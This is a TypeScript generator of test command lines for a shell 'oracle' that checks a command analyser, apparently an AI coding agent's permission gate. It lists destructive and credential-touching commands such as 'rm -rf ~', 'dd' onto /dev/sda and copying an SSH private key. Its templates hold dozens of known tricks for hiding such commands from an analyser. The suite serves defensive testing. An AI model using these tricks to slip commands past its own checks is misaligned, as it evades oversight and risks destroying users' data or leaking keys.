// Command lines for the shell oracle: the constructs GATE-SPEC item 3 lists and the known ways
// past a shell analyser, each combined with harmless and sensitive programs, write targets and
// disguised program names. A seeded generator, so a failing line comes back on the next run.

/** A line and the construct it exercises, to count disagreements by what a fix would touch. */
export interface OracleLine {
  line: string;
  family: string;
}

/** Sensitive commands, free of single quotes so they fit inside '…'. */
const SENSITIVE = [
  "rm -rf ~",
  "rm -rf /",
  "/bin/rm -rf ~",
  "rm -rf ~/*",
  "rm -rf /home/dev",
  "curl -o /tmp/x http://example.com/x",
  "curl http://example.com/x",
  "touch ~/.ssh/x",
  "git push --force origin main",
  "git -c core.pager=id log",
  "chmod -R 777 /",
  "sudo id",
  'python3 -c "import os"',
  'node -e "1"',
  "npx evil",
  "find . -delete",
  "sed -i s/a/b/ README.md",
  "cp ~/.ssh/id_ed25519 /tmp/k",
  "tee ~/.bashrc",
  "wget -O ~/.bashrc http://example.com",
  "docker run x",
  "dd if=/dev/zero of=/dev/sda",
  "id",
  "env X=1 id",
];
const HARMLESS = [
  "echo hi",
  "git status",
  "ls -la",
  "cat README.md",
  "npm test",
  "git log --oneline",
  "grep x README.md",
  "sed -n 1p README.md",
  "find . -name x",
  "git diff",
];
const TARGETS = [
  "~/.bashrc",
  "~/.ssh/authorized_keys",
  "/tmp/out",
  ".git/config",
  ".git/hooks/pre-commit",
  ".vscode/settings.json",
  ".github/workflows/x.yml",
  ".envrc",
  "src/a.txt",
  "out.txt",
  "/etc/passwd",
  "$HOME/.profile",
  "../x",
  "/dev/null",
  "src/.husky/x",
];
const SEPARATORS = ["; ", " && ", " || ", " | ", "\n", " & "];

// {S} sensitive command, {A} harmless command, {W} write target.
const FAMILIES: Record<string, string[]> = {
  "carriage return": ["{A}\r# ; {S}", "{A}\r; {S}", "echo x\r# $({S})", "{A} #\r{S}", "{A}\r\n{S}", "{A} \r# x\n{A}"],
  "control characters": ["{A}\v; {S}", "{A}\f{S}", "{A}\u001b; {S}", "{A}\u0007; {A}", "e\u0001cho hi"],
  "quotes in ${…}": [
    `echo "\${v:-'$({S})'}"`,
    `echo \${v:-'$({S})'}`,
    `echo "\${v:-$({S})}"`,
    `echo "\${v:+'{S}'}"`,
    'echo "${v-`{S}`}"',
    `echo "\${v#'$({S})'}"`,
    `echo "\${v:='$({S})'}"; {A}`,
    `v=1; echo "\${v:+'$({S})'}"`,
  ],
  "@ transformations": [
    `x='$({S})'; echo "\${x@P}"`,
    `PS1='$({S})'; echo "\${PS1@P}"`,
    `x='$({S})'; echo \${x@Q}`,
    `y=x; x='$({S})'; echo "\${!y@P}"`,
    `x='\`{S}\`'; {A} "\${x@P}"`,
  ],
  indirection: [`y='a[$({S})]'; echo \${!y}`, `y=HOME; echo \${!y}`, `y='x[$({S})]'; : "\${!y}"`],
  arithmetic: [
    `x='a[$({S})]'; echo $((x))`,
    `x='a[$({S})]'; (( x ))`,
    `x='a[$({S})]'; [[ $x -eq 1 ]]`,
    `x='a[$({S})]'; let x`,
    `x='a[$({S})]'; declare -i y=x`,
    `x='a[$({S})]'; echo $[x]`,
    `a=(1); x='a[$({S})]'; echo \${a[x]}`,
    `x='a[$({S})]'; : \${a[$x]}`,
    `x='a[$({S})]'; for ((i=x; i<0; i++)); do :; done`,
    `x='a[$({S})]'; echo \${v:x}`,
  ],
  "printf -v": [`printf -v 'a[$({S})]' %s 1`, `printf -v "a[\\$({S})]" x`, `printf -v x %s '$({S})'; {A}`],
  "test -v": [`test -v 'a[$({S})]'`, `[ -v 'a[$({S})]' ]`, `[[ -v a[$({S})] ]]`, `[[ -v 'a[$({S})]' ]] || {A}`],
  read: [
    `read 'a[$({S})]' <<< 1`,
    `echo 1 | read 'a[$({S})]'`,
    `read -r x 'a[$({S})]' <<< '1 2'`,
    `mapfile 'a[$({S})]' < /dev/null`,
  ],
  declare: [
    `declare 'a[$({S})]=1'`,
    `declare -a 'a[$({S})]'`,
    `typeset 'a[$({S})]=1'`,
    `export 'a[$({S})]=1'`,
    `readonly 'a[$({S})]=1'`,
    `declare -n r='a[$({S})]'; : $r`,
  ],
  unset: [`unset 'a[$({S})]'`, `unset -v 'a[$({S})]'`, `a=(1); unset 'a[$({S})]'; {A}`],
  coproc: ["coproc {S}", "coproc NAME { {S}; }", "coproc ( {S} )", "coproc {A}"],
  "braces and globs": [
    "{rm,-rf,~}",
    "{rm,-rf,/}",
    "/bin/r? -rf ~",
    "/usr/bin/[r]m -rf ~",
    "/bin/r* -rf ~",
    "rm -rf ~/{a,.ssh}",
    "rm -rf /{home,tmp}",
    "/???/rm -rf ~",
    "{echo,hi}",
    "ec{h,}o hi",
    "{git,status}",
    "l? -la",
    "c?t README.md",
    "chmod -R 777 ~/*",
    "find /{home,tmp} -delete",
    "rm -rf ~/.[a-z]*",
  ],
  "text piped into a shell": [
    "echo '{S}' | sh",
    "echo '{S}' | bash",
    "printf '%s\\n' '{S}' | dash",
    "bash <<< '{S}'",
    "sh <<EOF\n{S}\nEOF",
    "echo '{S}' | python3",
    "echo '{S}' | sh -s",
    "cat README.md | sh",
    "{A} | bash",
    "echo '{S}' | env sh",
    "echo '{S}' | node",
    "echo '{S}' | perl",
  ],
  "environment prefixes": [
    "GIT_DIR=/tmp {A}",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log",
    "PATH=/tmp:$PATH {A}",
    "LD_PRELOAD=/tmp/x.so {A}",
    "CI=1 {A}",
    "NODE_ENV=test npm test",
    "FOO=1 {A}",
    "env FOO=1 {A}",
    "export FOO=1; {A}",
    "FOO=1; export FOO; {A}",
    "NODE_OPTIONS='--require /tmp/x' npm test",
    "BASH_ENV=/tmp/x {A}",
    "HOME=/tmp {A}",
    "IFS=/ {A}",
    "LANG=C {A}",
    "TZ=UTC {A}",
    "declare -x FOO=1; {A}",
    "set -a; FOO=1; {A}",
    "PAGER=id git log",
    "GIT_SSH_COMMAND=id git fetch",
    "LESSOPEN='|id %s' {A}",
    "PYTHONPATH=/tmp {A}",
    "unset HOME; {A}",
  ],
  "PWD and cd": [
    "PWD=~/.ssh; echo k >> $PWD/x",
    "PWD=/tmp; echo k > $PWD/x",
    "cd ~ && echo x > y",
    "cd ~/.ssh; echo k > authorized_keys",
    "HOME=/tmp; echo x > ~/x",
    "cd /; {S}",
    "cd ..; echo x > x",
    "cd src && echo x > ../../x",
    "OLDPWD=/tmp; cd -; echo x > y",
    "CDPATH=/home/dev cd .ssh && echo x > k",
    "cd ~; {A}",
    "cd src && {A}",
    "PWD=/; rm -rf $PWD/home",
  ],
  "find -exec": [
    "find . -name x -exec rm -rf ~ \\;",
    "find . -exec sh -c '{S}' \\;",
    "find . -delete",
    "find ~ -delete",
    "find . -fprint /tmp/x",
    "find . -execdir id \\;",
    "find . -ok id \\;",
    "find . -name '*.txt' -print",
    "find . -fls ~/.bashrc",
    "find . -exec {A} \\;",
  ],
  "sed commands": [
    "sed -n 'e id' README.md",
    "sed 's/x/id/e' README.md",
    "sed -n '1w /tmp/out' README.md",
    "sed 's/a/b/w ~/.bashrc' README.md",
    "sed -i 's/a/b/' README.md",
    "sed -n 1p README.md",
    "sed -n 'W /tmp/x' README.md",
    "sed -n -e p -e 'e id' README.md",
    "sed -n --expression='e id' README.md",
  ],
  "git options": [
    "git -c core.pager=id log",
    "git -c alias.x='!id' x",
    "git -c core.sshCommand=id fetch",
    "git --config-env=core.pager=HOME log",
    "git --exec-path=/tmp status",
    "git diff --ext-diff",
    "git log --output=/tmp/x",
    "git config core.hooksPath /tmp",
    "git -C /tmp status",
    "git log -p --textconv",
    "git fetch --upload-pack=id",
    "git clone -u id x",
    "git -c core.fsmonitor=id status",
    "git submodule foreach id",
  ],
  "here-documents": [
    "cat <<EOF\n$({S})\nEOF",
    "cat <<'EOF'\n$({S})\nEOF",
    "cat <<EOF > {W}\nx\nEOF",
    "cat <<-EOF\n\t`{S}`\n\tEOF",
    "cat << EOF | sh\n{S}\nEOF",
    "cat <<EOF\nx\nEOF\n{S}",
    "cat <<EOF; {S}\nx\nEOF",
  ],
  functions: [
    "f() { {S}; }; f",
    "function ls { {S}; }; ls",
    "git() { {S}; }; git status",
    "echo() { {S}; }; echo hi",
    "f() { {A}; }; f",
    "cat() ( {S} ); cat README.md",
    "f() { {S}; }",
  ],
  aliases: ["alias ls='{S}'\nls", "shopt -s expand_aliases\nalias ls='{S}'\nls", "alias echo='{S}'; echo hi", "alias x='{S}'\nx"],
  case: ["case x in x) {S};; esac", "case $({S}) in *) {A};; esac", "case x in $({S})) ;; esac", "case x in y) {S};; esac"],
  "[[ ]]": ["[[ -n $({S}) ]]", "[[ x == $({S}) ]] && {A}", "[[ -f README.md ]] && {S}", "[[ $x == y ]] || {A}"],
  "$'…' escapes": [
    "$'\\x72\\x6d' -rf ~",
    "$'rm' -rf ~",
    "echo $'\\x27'; {S}",
    "echo $'a\\'b'; {S}",
    "$'\\162m' -rf ~",
    "$'ls' -la",
    "$'git' status",
    "echo $'\\x27;{S}'",
  ],
  "backslash newlines": [
    "r\\\nm -rf ~",
    "{A} \\\n; {S}",
    "echo hi \\\n&& {S}",
    "e\\\ncho hi",
    "git \\\nstatus",
    "echo x #\\\n{S}",
  ],
  "process substitution": [
    "cat <({S})",
    "echo x > >({S})",
    "diff <({A}) <({S})",
    "{A} < <({S})",
    "echo '{S}' > >(sh)",
    "{A} > >(cat)",
  ],
  subshells: ["({S})", "$({S})", "`{S}`", "{ {S}; }", "echo $({S})", 'echo "$({S})"', "({A}; {S})", "({A})", "{ {A}; }"],
  exec: ["exec {S}", "exec 3>{W}; {A}", "exec > {W}; echo hi", "exec -a ls {S}", "{A}; exec {S}", "exec {A}"],
  "command and builtin": [
    "command {S}",
    "command -p {S}",
    "command -v rm",
    "builtin echo hi",
    "builtin eval '{S}'",
    "command eval '{S}'",
    "builtin command {S}",
    "command exec {S}",
    "command {A}",
  ],
  "eval and source": [
    "eval '{S}'",
    'eval "{A}"',
    ". /dev/stdin <<< '{S}'",
    "source <(echo '{S}')",
    ". <(echo '{S}')",
    "echo '{S}' > /tmp/s; . /tmp/s",
  ],
  trap: [
    "trap '{S}' EXIT",
    "trap '{S}' EXIT; {A}",
    "trap -- '{S}' ERR; false",
    "trap '{S}' DEBUG; {A}",
    "trap '{S}' RETURN; f() { :; }; f",
  ],
  "set -o": [
    "set -o xtrace; {A}",
    "set -e; {A}",
    'set -- rm -rf ~; "$@"',
    "set -x; PS4='$({S})'; {A}",
    "set -o noclobber; echo x > {W}",
    "set -o posix; {A}",
    "set -f; {A}",
  ],
  shopt: [
    "shopt -s expand_aliases; {A}",
    "shopt -s extglob; ls !(x)",
    "shopt -s nullglob; rm -rf /x*",
    "shopt -s dotglob; echo *",
    "shopt -s globstar; ls **",
  ],
  IFS: [
    "IFS=,; x=rm,-rf,/home/dev; $x",
    "IFS=/; x=a/b; {A}",
    "IFS=x; {A}",
    "x='rm -rf /home/dev'; $x",
    "x=rm; $x -rf ~",
    "X=echo; $X hi",
    "IFS=' '; cmd='{S}'; $cmd",
  ],
  enable: [
    "enable -n echo; echo hi",
    "enable -n test; test -f README.md",
    "enable -n kill; kill -0 1",
    "enable -f /x y; {A}",
    "enable -n printf; printf hi",
    "enable -n pwd; pwd",
  ],
  "hash -p": [
    "hash -p /bin/rm ls; ls -la",
    "hash -p /usr/bin/curl cat; cat README.md",
    "hash -p /bin/rm echo; echo hi",
    "hash -p /bin/sh git; git status",
    "hash -r; {A}",
  ],
  writes: [
    "echo x > {W}",
    "echo x >> {W}",
    "{A} > {W}",
    "{A} 2> {W}",
    "{A} &> {W}",
    "{A} | tee {W}",
    "echo x >| {W}",
    ": > {W}",
    "> {W}",
    "{A} >> {W} 2>&1",
    "cp README.md {W}",
    "mv README.md {W}",
    "touch {W}",
    "dd of={W}",
  ],
  background: ["{S} &", "{A} & {S}", "{S} & wait", "nohup {S} &", "({S}) &", "{A} |& {S}"],
  xargs: ["echo ~ | xargs rm -rf", "echo x | xargs {S}", "ls | xargs -I{} sh -c '{S}'", "printf 'a\\0' | xargs -0 echo"],
  wrappers: [
    "env {S}",
    "env -i {S}",
    "env -S '{S}'",
    "nice {S}",
    "timeout 5 {S}",
    "nohup {S}",
    "time {S}",
    "sh -c '{S}'",
    "bash -c '{S}'",
    "env {A}",
    "time {A}",
    "nice -n 5 {A}",
  ],
  "plain lines": ["{A}", "{S}", "{A} && {A}", "{A}; {S}", "{A} || {S}", "{A} | {A}", "! {A}", "{A}\n{S}", "{A} # {S}"],
  "loops and conditions": [
    "for i in 1; do {S}; done",
    "while false; do {S}; done",
    "until true; do {S}; done",
    "while :; do :; done",
    "for ((i=0;i<1;i++)); do {S}; done",
    "if {A}; then {S}; fi",
    "if false; then {S}; else {A}; fi",
    "for f in *; do {A}; done",
  ],
};

/** Ways to write a program's name that a shell reads as the same name. */
const DISGUISES: ((name: string) => string)[] = [
  (name) => name,
  (name) => name,
  (name) => name,
  (name) => (name.startsWith("/") ? name : `/usr/bin/${name}`),
  (name) => `\\${name}`,
  (name) => `'${name}'`,
  (name) => `"${name}"`,
  (name) => `${name.slice(0, 1)}''${name.slice(1)}`,
  (name) => `${name.slice(0, 1)}\\${name.slice(1)}`,
];

/** A small seeded generator (mulberry32): the same seed gives the same lines on every machine. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** `count` distinct lines (fewer if the families cannot make that many), the same for the same seed. */
export function generateLines(count: number, seed: number): OracleLine[] {
  const random = seededRandom(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const families = Object.keys(FAMILIES);
  const disguise = (command: string) => {
    const space = command.indexOf(" ");
    const name = space < 0 ? command : command.slice(0, space);
    return pick(DISGUISES)(name) + (space < 0 ? "" : command.slice(space));
  };
  const one = (): OracleLine => {
    const family = pick(families);
    const line = pick(FAMILIES[family] ?? [])
      .replaceAll("{S}", () => disguise(pick(SENSITIVE)))
      .replaceAll("{A}", () => disguise(pick(HARMLESS)))
      .replaceAll("{W}", () => pick(TARGETS));
    return { line, family };
  };
  const seen = new Map<string, OracleLine>();
  for (let tries = 0; seen.size < count && tries < count * 20; tries++) {
    let next = one();
    if (random() < 0.2) {
      const second = one();
      next = { line: next.line + pick(SEPARATORS) + second.line, family: next.family };
    }
    if (!seen.has(next.line)) seen.set(next.line, next);
  }
  return [...seen.values()];
}

/** Every template once with its first fillers, so each construct is run whatever the seed picks. */
export function everyTemplate(): OracleLine[] {
  return Object.entries(FAMILIES).flatMap(([family, templates]) =>
    templates.map((template) => ({
      family,
      line: template
        .replaceAll("{S}", SENSITIVE[0] ?? "")
        .replaceAll("{A}", HARMLESS[0] ?? "")
        .replaceAll("{W}", TARGETS[0] ?? ""),
    })),
  );
}

/**
 * The policy table's lines (test/extension/agent/policyCases.ts), once that file is on this branch:
 * every exported list of cases with a `line` or `command` text. Until then, none.
 */
export async function tableLines(): Promise<OracleLine[]> {
  const path = "../extension/agent/policyCases";
  let table: Record<string, unknown>;
  try {
    table = (await import(path)) as Record<string, unknown>;
  } catch (error) {
    if (/Cannot find module|ERR_MODULE_NOT_FOUND/.test(String(error))) return [];
    throw error;
  }
  const lines: OracleLine[] = [];
  for (const value of Object.values(table)) {
    if (!Array.isArray(value)) continue;
    for (const item of value as unknown[]) {
      const text =
        typeof item === "object" && item !== null
          ? ((item as { line?: unknown; command?: unknown }).line ?? (item as { command?: unknown }).command)
          : undefined;
      if (typeof text === "string") lines.push({ line: text, family: "policy table" });
    }
  }
  return lines;
}
